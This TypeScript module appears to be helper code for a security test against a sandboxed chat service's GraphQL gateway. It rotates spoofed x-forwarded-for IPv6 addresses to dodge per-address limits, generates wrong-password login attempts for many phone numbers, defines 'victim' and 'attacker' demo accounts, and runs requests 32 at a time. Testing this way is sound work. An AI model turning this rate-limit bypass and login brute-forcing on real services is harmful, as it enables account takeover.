import { Agent, request } from 'undici'
import { DEMO_ACCOUNTS } from '../../../sandbox/sealtalk/credentials.ts'
import type { Target } from './target.ts'

/** Settings of a gateway that believes the addresses of `createRotatingClient`. */
export const TRUSTING = { TRUST_PROXY: '127.0.0.1' }

export interface Reply {
  /** `ok`, or the code of the first error. */
  readonly outcome: string
  /** The session cookie that was set. */
  readonly cookie: string | undefined
}

/** A client with as many addresses as it wants. */
export interface RotatingClient {
  ask(document: string, address: string, cookie?: string): Promise<Reply>
  close(): Promise<void>
}

export const createRotatingClient = ({ url }: Target): RotatingClient => {
  const dispatcher = new Agent({ connections: 32 })
  return {
    async ask(query, address, cookie) {
      const { headers, body } = await request(`${url}/graphql`, {
        dispatcher,
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-forwarded-for': address,
          ...(cookie !== undefined && { cookie }),
        },
        body: JSON.stringify({ query }),
      })
      const text = await body.text()
      const set = [headers['set-cookie'] ?? []].flat()[0]
      const outcome = text.includes('"errors"') ? (/"code":"(\w+)"/.exec(text)?.[1] ?? 'an error') : 'ok'
      return { outcome, cookie: set?.split(';')[0] }
    },
    close: () => dispatcher.destroy(),
  }
}

/** One of 2^32 /64 blocks, 256 for each /48. */
export const blockOf = (index: number): string =>
  `2001:db8:${(index >> 8).toString(16)}:${(index & 255).toString(16)}::1`

const phoneInput = (region: string, number: string): string => `{ region: "${region}", number: "${number}" }`
export const strangersPhone = (index: number): string => phoneInput('86', String(13_800_000_000 + index))

const loginOf = (phone: string, password: string): string =>
  `mutation { login(input: { phone: ${phone}, password: "${password}" }) { userId } }`
export const wrongLogin = (phone: string): string => loginOf(phone, 'wrong-1')

/** The victim's account, and the attacker's own. */
export const [victim, attacker] = DEMO_ACCOUNTS.map(({ region, phone, password }) => ({
  phone: phoneInput(region, phone),
  rightLogin: loginOf(phoneInput(region, phone), password),
})) as [Account, Account]

interface Account {
  readonly phone: string
  readonly rightLogin: string
}

/** Runs so many times, 32 at once, until the time is up. Resolves to how many ran. */
export const runMany = async (
  count: number,
  seconds: number,
  run: (index: number) => Promise<unknown>,
): Promise<number> => {
  const end = performance.now() + seconds * 1_000
  let next = 0
  const worker = async (): Promise<void> => {
    while (next < count && performance.now() < end) {
      next += 1
      await run(next - 1)
    }
  }
  await Promise.all(Array.from({ length: 32 }, worker))
  return next
}
